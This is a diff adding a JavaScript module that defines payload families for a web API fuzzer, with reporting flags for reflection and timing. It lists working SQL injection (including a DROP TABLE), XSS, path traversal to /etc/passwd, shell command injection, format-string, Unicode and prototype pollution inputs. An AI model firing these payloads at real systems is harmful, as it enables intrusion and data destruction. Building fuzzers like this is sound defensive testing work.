@@ -0,0 +1,113 @@
+// src/utils/fuzzPayloads.js
+
+/* ------------------------------------------------------------------
+   Payload families for the fuzzer (services/fuzz.service.js).
+   - value:   what replaces the field (any JSON value)
+   - label:   how reports show it (oversized values are not echoed)
+   - reflect: flag the response when it echoes the value back verbatim
+   - slow:    designed to delay the server (timing anomalies are expected)
+   Prototype pollution adds keys to objects instead of replacing values.
+-------------------------------------------------------------------*/
+const payload = (value, extra = {}) => ({ value, label: typeof value === "string" ? value : JSON.stringify(value), ...extra });
+
+// marker property the pollution payloads try to plant on Object.prototype
+export const POLLUTION_MARKER = "fuzzPolluted";
+
+export const PAYLOAD_FAMILIES = {
+  sqli: [
+    payload("' OR '1'='1", { reflect: true }),
+    payload("1' OR 1=1--", { reflect: true }),
+    payload("\" OR \"\"=\"", { reflect: true }),
+    payload("'; DROP TABLE users;--", { reflect: true }),
+    payload("1 UNION SELECT NULL,NULL,NULL--", { reflect: true }),
+    payload("' AND SLEEP(5)--", { slow: true }),
+    payload("1; WAITFOR DELAY '0:0:5'--", { slow: true }),
+    payload("'||pg_sleep(5)--", { slow: true }),
+    payload({ $gt: "" }, { label: '{"$gt":""} (NoSQL operator)' }),
+  ],
+
+  xss: [
+    payload("<script>alert(1)</script>", { reflect: true }),
+    payload("\"><img src=x onerror=alert(1)>", { reflect: true }),
+    payload("<svg/onload=alert(1)>", { reflect: true }),
+    payload("javascript:alert(1)", { reflect: true }),
+    payload("'-alert(1)-'", { reflect: true }),
+    payload("{{7*7}}${7*7}<%= 7*7 %>", { reflect: true }),
+  ],
+
+  pathTraversal: [
+    payload("../../../../../../etc/passwd", { reflect: true }),
+    payload("..%2f..%2f..%2f..%2fetc%2fpasswd", { reflect: true }),
+    payload("....//....//....//etc/passwd", { reflect: true }),
+    payload("..\\..\\..\\..\\windows\\win.ini", { reflect: true }),
+    payload("/etc/passwd%00.png", { reflect: true }),
+  ],
+
+  commandInjection: [
+    payload("; id", { reflect: true }),
+    payload("| cat /etc/passwd", { reflect: true }),
+    payload("&& whoami", { reflect: true }),
+    payload("`id`", { reflect: true }),
+    payload("$(sleep 5)", { slow: true }),
+    payload("| ping -c 5 127.0.0.1", { slow: true }),
+  ],
+
+  oversized: [
+    payload("A".repeat(1024), { label: "1 KB of 'A'" }),
+    payload("A".repeat(64 * 1024), { label: "64 KB of 'A'" }),
+    payload("A".repeat(1024 * 1024), { label: "1 MB of 'A'" }),
+    payload("9".repeat(400), { label: "400-digit number string" }),
+    payload("%s%n".repeat(200), { label: "'%s%n' × 200 (format string)" }),
+  ],
+
+  unicode: [
+    payload("\u0000", { label: "NUL (U+0000)" }),
+    payload("\u202Eexe.live", { label: "right-to-left override (U+202E)" }),
+    payload("a\u200Bdmin", { label: "zero-width space inside a word" }),
+    payload("\uD800", { label: "lone surrogate (U+D800)" }),
+    payload("\uFEFFadmin", { label: "byte order mark (U+FEFF)" }),
+    payload("Z\u0359\u0351\u036B\u0343\u0358\u0362", { label: "stacked combining marks" }),
+    payload("\u{1F600}\u{1D54F}\u{1F3F3}\uFE0F\u200D\u{1F308}", { label: "emoji and astral characters" }),
+    payload("\uFF21\uFF24\uFF2D\uFF29\uFF2E", { label: "fullwidth letters (NFKC folds to ADMIN)" }),
+  ],
+
+  typeConfusion: [
+    payload(null),
+    payload(true),
+    payload(0),
+    payload(-1),
+    payload(1e308),
+    payload(""),
+    payload([]),
+    payload({}),
+    payload(["a", "b"]),
+    payload("NaN"),
+  ],
+
+  // { key, label }: added to objects with pollutionValue(key)
+  prototypePollution: [
+    { key: "__proto__", label: `__proto__.${POLLUTION_MARKER}` },
+    { key: "constructor", label: `constructor.prototype.${POLLUTION_MARKER}` },
+    { key: `__proto__.${POLLUTION_MARKER}`, label: `"__proto__.${POLLUTION_MARKER}" (dotted key)` },
+  ],
+};
+
+export const FAMILY_NAMES = Object.keys(PAYLOAD_FAMILIES);
+
+/**
+ * pollutionValue
+ * - What a pollution payload adds under its key. The caller must add it as
+ *   an own property (defineProperty): assigning to "__proto__" would
+ *   replace the object's prototype instead of sending the key.
+ */
+export const pollutionValue = (key) => {
+  if (key === "constructor") return { prototype: { [POLLUTION_MARKER]: true } };
+  if (key === "__proto__") return { [POLLUTION_MARKER]: true };
+  return true;
+};
+
+// Query string forms of the same keys (qs / body-parser "extended" syntax)
+export const POLLUTION_QUERY = [
+  { name: `__proto__[${POLLUTION_MARKER}]`, label: `__proto__[${POLLUTION_MARKER}]` },
+  { name: `constructor[prototype][${POLLUTION_MARKER}]`, label: `constructor[prototype][${POLLUTION_MARKER}]` },
+];